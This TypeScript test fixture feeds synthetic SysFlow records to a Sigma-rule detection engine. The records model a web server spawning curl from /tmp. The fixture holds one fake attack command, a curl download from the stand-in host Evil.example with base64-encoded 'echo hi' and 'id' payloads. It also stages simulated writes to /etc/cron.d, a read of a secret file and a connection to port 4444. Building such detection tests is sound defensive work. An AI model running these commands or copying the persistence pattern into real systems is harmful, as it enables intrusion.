// A small world for Sigma rules: a web server that starts a program, which opens files and connects.
// Each deed has a name, which tests list as what a rule matches.

import { makeProgram } from "../../../src/policy/compile/program.ts";
import { PolicyEngine } from "../../../src/policy/engine/policy-engine.ts";
import { Problems, problemLines } from "../../../src/policy/language/problem.ts";
import { SourceFile } from "../../../src/policy/language/source-text.ts";
import { loadAll } from "../../../src/policy/sigma/load-all.ts";
import * as op from "../../../src/sysflow/op-flags.gen.ts";
import { OPEN_CREAT, OPEN_RDONLY, OPEN_WRONLY } from "../../../src/sysflow/open-flags.ts";
import type { Process, SysFlowRecord } from "../../../src/sysflow/record.gen.ts";
import { joinOf } from "../flatten/at-records.ts";
import {
  sampleChild,
  sampleContainer,
  sampleFile,
  sampleFileEvent,
  sampleFileFlow,
  sampleHeader,
  sampleNetworkFlow,
  sampleParent,
  sampleProcessEvent,
} from "../records/sample-records.ts";

const server: Process = {
  ...sampleParent(),
  exe: "/usr/sbin/Nginx",
  exeArgs: "-g daemon",
  userName: "www-data",
  uid: 33,
};

/** In Base64: `YWJj` of "abc", `x=ZWNobyBoaQ==` of "echo hi"; UTF-16 of "id" is `aQBkAA==`. */
const program: Process = {
  ...sampleChild(),
  exe: "/usr/bin/Curl",
  exeArgs: "-s -O http://Evil.example/a?b*c [x] a,b x=ZWNobyBoaQ== aQBkAA==",
  cwd: "/tmp",
  poid: server.oid,
};

const folder: readonly SysFlowRecord[] = ["/old", "/new", "/etc/cron.d/job", "/tmp/secret.txt"].map(
  sampleFile,
);

const job = sampleFile("/etc/cron.d/job").foid;
const secret = sampleFile("/tmp/secret.txt").foid;

/** 10.1.2.3 as records have it: the lowest byte is the first. */
const inside = 0x03_02_01_0a;
const flow = { ...sampleNetworkFlow(500), sip: 16777343, dip: inside, dport: 4444 };

export const deeds: Readonly<Record<string, SysFlowRecord>> = {
  exec: sampleProcessEvent(op.OP_EXEC, 100),
  execFailed: { ...sampleProcessEvent(op.OP_EXEC, 110), ret: -2 },
  clone: sampleProcessEvent(op.OP_CLONE, 120),
  exit: sampleProcessEvent(op.OP_EXIT, 130),
  read: { ...sampleFileFlow(200), fileOID: secret },
  write: {
    ...sampleFileFlow(210),
    fileOID: job,
    opFlags: op.OP_OPEN | op.OP_WRITE_SEND | op.OP_CLOSE,
    openFlags: OPEN_WRONLY,
  },
  create: { ...sampleFileFlow(220), fileOID: job, openFlags: OPEN_RDONLY | OPEN_CREAT },
  mkdir: sampleFileEvent(op.OP_MKDIR, 300),
  unlink: { ...sampleFileEvent(op.OP_UNLINK, 310), fileOID: job },
  rename: { ...sampleFileEvent(op.OP_RENAME, 320), fileOID: secret, newFileOID: job },
  renameFailed: {
    ...sampleFileEvent(op.OP_RENAME, 330),
    fileOID: secret,
    newFileOID: job,
    ret: -13,
  },
  renameAway: { ...sampleFileEvent(op.OP_RENAME, 340), fileOID: job, newFileOID: secret },
  connect: flow,
  accept: { ...flow, opFlags: op.OP_ACCEPT | op.OP_READ_RECV, dport: 80 },
  goesOn: { ...flow, opFlags: op.OP_WRITE_SEND },
  udp: { ...flow, opFlags: op.OP_WRITE_SEND, proto: 17, dport: 53 },
};

const before: readonly SysFlowRecord[] = [
  sampleHeader,
  sampleContainer(),
  server,
  program,
  ...folder,
];

export interface Matched {
  /** Names of the deeds that any of the rules matches, in their order. */
  readonly deeds: readonly string[];
  readonly problems: readonly string[];
}

/** @param only the deeds to try; all where not given */
export async function matchedDeeds(
  texts: readonly string[],
  only: readonly string[] = Object.keys(deeds),
): Promise<Matched> {
  const problems = new Problems();
  const files = texts.map((text, index) => new SourceFile(`${index}.yml`, text));
  const policies = loadAll(files, { mode: "default", skipUnsupported: false }, problems);
  const made = await makeProgram(policies, { skipUnsupported: false }, problems);
  const told = problems.list.map((each) => problemLines(each)[0] ?? "");
  if (problems.errors > 0) {
    return { deeds: [], problems: told };
  }
  const engine = new PolicyEngine(made);
  const matched = only.filter((name) => {
    return engine.match(joinOf([...before, deeds[name] as SysFlowRecord]));
  });
  return { deeds: matched, problems: told };
}
